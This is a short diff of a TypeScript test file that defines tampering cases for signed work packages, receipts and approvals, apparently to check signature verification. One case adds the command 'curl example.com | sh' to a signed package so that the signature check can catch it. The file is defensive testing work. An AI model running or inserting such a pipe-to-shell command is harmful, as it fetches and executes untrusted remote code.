@@ -76,6 +76,6 @@ export const SIGNATURE_TAMPERS: readonly Tamper[] = [
     bundle.files.set(name, signEnvelope(envelope.payloadType, approval, [bundle.keyring.approver(approval.approver), bundle.stranger]));
   }),
   toContent('edit-package', 'package.signature-invalid', 'a command added to a signed work package', (bundle) => reword<WorkPackageStatement>(bundle, firstNamed(bundle, isPackage), (statement) => ({ ...statement, commands: [...statement.commands, 'curl example.com | sh'] }))),
-  toContent('package-by-runner', 'package.key-refused', 'a work package signed with the key of a runner', (bundle) => resign(bundle, firstNamed(bundle, isPackage), bundle.keyring.runner(RUNNERS[0]!.runner))),
+  toContent('package-by-runner', 'package.key-refused', 'a work package signed with the key of a runner', (bundle) => resign(bundle, firstNamed(bundle, isPackage), bundle.keyring.runner(RUNNERS[0].runner))),
   toContent('receipt-by-other-runner', 'package.signer-mismatch', 'a receipt signed by another runner than it names', receiptByAnother),
 ];
